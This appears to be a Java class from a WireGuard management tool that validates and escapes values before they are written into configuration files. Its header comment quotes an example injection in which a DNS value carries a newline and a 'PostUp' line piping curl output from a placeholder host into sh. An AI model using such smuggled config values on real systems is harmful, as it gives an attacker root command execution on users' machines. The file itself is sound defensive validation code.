package io.peerwarden.core.render;

import io.peerwarden.core.keys.InvalidKeyException;
import io.peerwarden.core.keys.WireGuardKeys;
import java.util.Base64;
import java.util.List;
import java.util.regex.Pattern;
import io.peerwarden.core.text.SafeText;

/**
 * Last line of defence for values written into WireGuard configs. Validation proper happens
 * before rendering; this only guarantees that no value can break out of its line. A DNS entry
 * like {@code "1.1.1.1\nPostUp = curl evil | sh"} would otherwise become a command that wg-quick
 * runs as root on the user's machine.
 */
final class ConfigValues {

    /** Addresses, CIDRs, host names, search domains: nothing a config or shell parser treats specially. */
    private static final Pattern TOKEN = Pattern.compile("[A-Za-z0-9._:/%\\[\\]-]+");
    /** host:port, with IPv6 hosts in brackets. */
    private static final Pattern ENDPOINT = Pattern.compile("(\\[[0-9A-Fa-f:.%A-Za-z]+\\]|[A-Za-z0-9._-]+):([0-9]{1,5})");

    private ConfigValues() {
    }

    /** The key in canonical base64 (whitespace from a Secret stripped); the message never holds key material. */
    static String key(String value, String field) {
        if (value == null) {
            throw new IllegalArgumentException(field + " is required");
        }
        try {
            return Base64.getEncoder().encodeToString(WireGuardKeys.decode(value));
        } catch (InvalidKeyException e) {
            throw new InvalidKeyException(field + ": " + e.getMessage());
        }
    }

    static String token(String value, String field) {
        if (value == null || value.isEmpty()) {
            throw new IllegalArgumentException(field + " must not be empty");
        }
        if (!TOKEN.matcher(value).matches()) {
            throw new IllegalArgumentException(field + " contains characters not allowed in a WireGuard config: " + printable(value));
        }
        return value;
    }

    /** "a, b, c" in the given order; order is meaningful (DNS) and kept, so output is deterministic. */
    static String list(List<String> values, String field) {
        StringBuilder joined = new StringBuilder();
        for (int i = 0; i < values.size(); i++) {
            if (i > 0) {
                joined.append(", ");
            }
            joined.append(token(values.get(i), field + "[" + i + "]"));
        }
        return joined.toString();
    }

    static String endpoint(String value, String field) {
        token(value, field);
        var matcher = ENDPOINT.matcher(value);
        if (!matcher.matches()) {
            throw new IllegalArgumentException(field + " must be host:port, with an IPv6 address in brackets"
                    + " ([fd00::1]:51820): " + printable(value));
        }
        int port = Integer.parseInt(matcher.group(2));
        if (port < 1 || port > 65535) {
            throw new IllegalArgumentException(field + " port must be 1-65535: " + printable(value));
        }
        return value;
    }

    static int range(int value, int min, int max, String field) {
        if (value < min || value > max) {
            throw new IllegalArgumentException(field + " must be " + min + "-" + max + ", not " + value);
        }
        return value;
    }

    static List<String> copy(List<String> values) {
        return values == null ? List.of() : List.copyOf(values);
    }

    /** For messages: the value quoted with control characters made visible, so a rejected value cannot forge log lines. */
    private static String printable(String value) {
        return SafeText.quote(value);
    }
}
